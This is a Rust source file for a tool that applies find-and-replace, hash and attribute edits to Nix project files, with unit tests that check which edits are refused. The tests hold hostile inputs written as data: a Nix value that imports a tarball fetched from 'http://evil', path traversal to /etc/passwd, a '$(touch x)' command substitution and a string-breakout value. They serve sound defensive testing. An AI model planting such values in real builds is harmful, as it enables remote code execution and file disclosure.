//! An edit, worked out on the files of the project.

use std::path::Path;

use super::nix_hash::NixHash;
use super::place::{self, Place};
use super::prepare::{Setting, fill, plain};
use super::replace::{self, Replacement};
use super::{FileEdit, Obstacle, nix_attribute, nix_insert, spelling};
use crate::facts::Reading;
use crate::rules::{Edit, EditKind, Template};

/// An edit with every value filled in and looked at.
enum Filled {
    Word { find: String, replace: String, line: Option<usize> },
    Hash { find: NixHash, replace: NixHash },
    Attribute { wrong: String, right: String, position: (usize, usize) },
    Insert { text: String, position: (usize, usize) },
}

/// The files with what they are to hold, or why they are left as they are.
pub(super) fn edits(
    edit: &Edit,
    lookup: &impl Fn(&str) -> Option<String>,
    setting: Setting<'_>,
) -> Result<Vec<FileEdit>, Obstacle> {
    let plain = |template: &Template| plain(fill(template, lookup)?);
    let files = edit.files.iter().map(plain).collect::<Result<Vec<_>, _>>()?;
    let (find, replacement) = (plain(&edit.find)?, plain(&edit.replace)?);
    let filled = Filled::new(&edit.kind, &find, &replacement, lookup)?;
    let mut found: Vec<FileEdit> = Vec::new();
    let mut places = Vec::new();
    let mut why_not = None;
    for (template, pattern) in edit.files.iter().zip(&files) {
        // What was captured is one path, even where it looks like a glob.
        let captured = template.placeholders().next().is_some();
        let named = match captured {
            false => place::files(setting.machine, setting.project, pattern),
            true => place::file(setting.machine, setting.project, pattern).map(|place| vec![place]),
        };
        match named.and_then(|named| filled.in_files(&named, setting)) {
            Ok(edits) => {
                for (edit, lines) in edits {
                    if !found.iter().any(|other| other.path == edit.path) {
                        places.extend(lines.iter().map(|line| format!("{}:{line}", edit.name)));
                        found.push(edit);
                    }
                }
            }
            Err(why) => why_not = Some(why),
        }
    }
    match places.len() {
        0 => Err(Obstacle::Blocked(match why_not {
            Some(why) if edit.files.len() == 1 => why,
            _ => format!("`{find}` stands in no file of this project"),
        })),
        2.. if filled.must_be_unique() => Err(Obstacle::Blocked(format!(
            "it stands at {}, and which one is meant is not known; put `{replacement}` there",
            listed(&places)
        ))),
        _ => Ok(found),
    }
}

impl Filled {
    fn new(
        kind: &EditKind,
        find: &str,
        replace: &str,
        lookup: &impl Fn(&str) -> Option<String>,
    ) -> Result<Self, Obstacle> {
        let number = |template: &Template| {
            let text = plain(fill(template, lookup)?)?;
            text.parse().map_err(|_| Obstacle::Blocked(format!("`{text}` is no position in a file")))
        };
        match kind {
            EditKind::Word { line } => {
                spelling::same_version(find, replace).map_err(Obstacle::Blocked)?;
                let line = line.as_ref().map(number).transpose()?;
                Ok(Filled::Word { find: find.to_owned(), replace: replace.to_owned(), line })
            }
            EditKind::NixHash => match (NixHash::parse(find), NixHash::parse(replace)) {
                (Some(find), Some(replace)) if find.same_algorithm(&replace) => {
                    Ok(Filled::Hash { find, replace })
                }
                _ => Err(Obstacle::Blocked(format!("`{find}` and `{replace}` are no hashes of one kind"))),
            },
            EditKind::NixAttribute { line, column } => {
                let wrong = nix_attribute::unquoted(find);
                let position = (number(line)?, number(column)?);
                spelling::corrects(&wrong, replace).map_err(Obstacle::Blocked)?;
                Ok(Filled::Attribute { wrong, right: replace.to_owned(), position })
            }
            EditKind::Insert { line, column } => {
                Ok(Filled::Insert { text: replace.to_owned(), position: (number(line)?, number(column)?) })
            }
        }
    }

    /// The edits of these files, each with the lines in which something is replaced. If there is one file alone,
    /// what keeps it from being edited is told.
    fn in_files(&self, files: &[Place], setting: Setting<'_>) -> Result<Vec<(FileEdit, Vec<usize>)>, String> {
        let mut edits = Vec::new();
        for place in files {
            match self.in_file(place, setting) {
                Ok(Some(edit)) => edits.push(edit),
                Ok(None) => {}
                Err(why) if files.len() == 1 => return Err(why),
                Err(_) => {}
            }
        }
        Ok(edits)
    }

    fn in_file(&self, place: &Place, setting: Setting<'_>) -> Result<Option<(FileEdit, Vec<usize>)>, String> {
        let name = place::name(setting.project, &place.path);
        if !self.may_edit(&place.within) {
            return Err(format!("{name} is no file in which this may be replaced"));
        }
        let Reading::Present(before) = setting.machine.read(&place.path) else { return Ok(None) };
        let replacements = self.replacements(&before).map_err(|why| format!("{name} {why}"))?;
        if replacements.is_empty() {
            return Ok(None);
        }
        let line = |(range, _): &Replacement| before[..range.start].matches('\n').count() + 1;
        let lines = replacements.iter().map(line).collect();
        let after = replace::apply(&before, &replacements);
        let edit = FileEdit { path: place.path.clone(), name, before: Some(before), after };
        Ok(Some((edit, lines)))
    }

    fn replacements(&self, text: &str) -> Result<Vec<Replacement>, String> {
        match self {
            Filled::Word { find, replace, line } => Ok(replace::words(text, find, replace, *line)),
            Filled::Hash { find, replace } => Ok(replace::hashes(text, find, replace)),
            Filled::Attribute { wrong, right, position } => {
                Ok(vec![nix_attribute::correct(text, wrong, right, *position)?])
            }
            Filled::Insert { text: inserted, position } => {
                Ok(vec![nix_insert::insert(text, inserted, *position)?])
            }
        }
    }

    /// Whether a file, by its path below the root, is one in which such a thing stands.
    fn may_edit(&self, within: &Path) -> bool {
        let is_nix = within.extension().is_some_and(|ending| ending == "nix");
        match self {
            Filled::Word { .. } => true,
            Filled::Hash { .. } => is_nix || within.file_name().is_some_and(|name| name == "flake.lock"),
            Filled::Attribute { .. } | Filled::Insert { .. } => is_nix && !place::in_hidden_folder(within),
        }
    }

    /// One wrong hash in two places is one source used twice; a placeholder or a word in two places is not.
    fn must_be_unique(&self) -> bool {
        match self {
            Filled::Word { line, .. } => line.is_none(),
            Filled::Hash { find, .. } => find.is_placeholder(),
            Filled::Attribute { .. } | Filled::Insert { .. } => true,
        }
    }
}

/// Places in a sentence: all of a few, the first of many.
fn listed(places: &[String]) -> String {
    const FEW: usize = 4;
    match places {
        [all @ .., last] if all.len() < FEW => format!("{} and {last}", all.join(", ")),
        _ => {
            let (shown, more) = places.split_at(FEW.min(places.len()));
            format!("{} and {} more places", shown.join(", "), more.len())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::{prepared, project};
    use crate::plan::Step;

    const FILES: &str = "  /home/user/app/a.nix: \"{ a = s.word; b = word; }\"\n  \
                         /home/user/app/.x/a.nix: \"{ a = s.word; }\"\n  \
                         /home/user/app/b.txt: \"word = s.word\"\n";

    /// The names of the files that would be edited with what they would hold, or what is in the way.
    fn edited(files: &str, edit: &str, captures: &[(&str, &str)]) -> Result<Vec<(String, String)>, String> {
        let treatment = prepared(&project(files), &format!("edit: {{{edit}}}"), captures);
        match (treatment.obstacle, treatment.step) {
            (Some(obstacle), _) => Err(obstacle.why().to_owned()),
            (None, Step::Edit(edits)) => Ok(edits.into_iter().map(|edit| (edit.name, edit.after)).collect()),
            (None, other) => panic!("{other:?}"),
        }
    }

    fn one(name: &str, after: &str) -> Result<Vec<(String, String)>, String> {
        Ok(vec![(name.to_owned(), after.to_owned())])
    }

    #[test]
    fn an_attribute_is_corrected_in_a_nix_file_of_the_project_alone() {
        let edit = |file: &str, right: &str| {
            let keys = "kind: nix-attribute, find: word, replace: \"${right}\", in: [\"${file}\"], line: 1, column: 7";
            edited(FILES, keys, &[("file", file), ("right", right)])
        };
        assert_eq!(edit("a.nix", "words"), one("a.nix", "{ a = s.words; b = word; }"));
        let why = edit("a.nix", "x=1;y=(import(builtins.fetchTarball(\"http://evil\")))").unwrap_err();
        assert!(why.contains("too unlike"), "{why}");
        for file in
            [".git/config", ".x/a.nix", "b.txt", "*.nix", "a*.nix", "../../../etc/passwd", "/etc/passwd"]
        {
            edit(file, "words").unwrap_err();
        }
    }

    #[test]
    fn a_word_is_replaced_anywhere_but_in_git_and_outside() {
        let edit = |file: &str| {
            let keys = "find: \" word\", replace: \"${right}\", in: [\"${file}\"]";
            edited(FILES, keys, &[("file", file), ("right", " sword")])
        };
        assert_eq!(edit("a.nix"), one("a.nix", "{ a = s.word; b = sword; }"));
        for file in [".git/config", "*.nix", "**/*.nix", "../../../etc/passwd"] {
            edit(file).unwrap_err();
        }
    }

    const ZERO: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
    const OLD: &str = "sha256-q8b9WV/AedMRTUtxpNhLHR0Ped8ecPiBMhLypl2JFt8=";
    const NEW: &str = "sha256-WJG1tSLV3whtD/CxEPvZ0hu0/HFjrzTQgoai6Eb2vgM=";

    #[test]
    fn a_hash_gives_way_to_a_hash_alone_and_where_hashes_stand() {
        let files = ["a.nix", "flake.lock", "b.txt"]
            .map(|name| format!("  /home/user/app/{name}: '{OLD}'\n"))
            .concat();
        let edit = |new: &str| {
            let keys = "kind: nix-hash, find: \"${old}\", replace: \"${new}\", in: [\"*.nix\", \"*.txt\", flake.lock]";
            edited(&files, keys, &[("old", OLD), ("new", new)])
        };
        let names: Vec<_> = edit(NEW).unwrap().into_iter().map(|(name, _)| name).collect();
        assert_eq!(names, ["a.nix", "flake.lock"]);
        for new in ["$(touch x)", "\"; x = import ./y; z = \"", "--option", &"A".repeat(1 << 20), ""] {
            edit(new).unwrap_err();
        }
    }

    #[test]
    fn the_places_of_a_placeholder_are_told() {
        let nix = format!("\"a = '{ZERO}';\\nb = '{ZERO}';\"");
        let files = ["a.nix", "b.nix"].map(|name| format!("  /home/user/app/{name}: {nix}\n")).concat();
        let keys = "kind: nix-hash, find: \"${old}\", replace: \"${new}\", in: [a.nix]";
        let captures = [("old", ZERO), ("new", NEW)];
        let why = edited(&files, keys, &captures).unwrap_err();
        assert!(why.contains("stands at a.nix:1 and a.nix:2") && why.contains(NEW), "{why}");
        let all = keys.replace("a.nix", "\"*.nix\"");
        let why = edited(&files, &all, &captures).unwrap_err();
        assert!(why.contains("a.nix:1, a.nix:2, b.nix:1 and b.nix:2"), "{why}");
    }
}
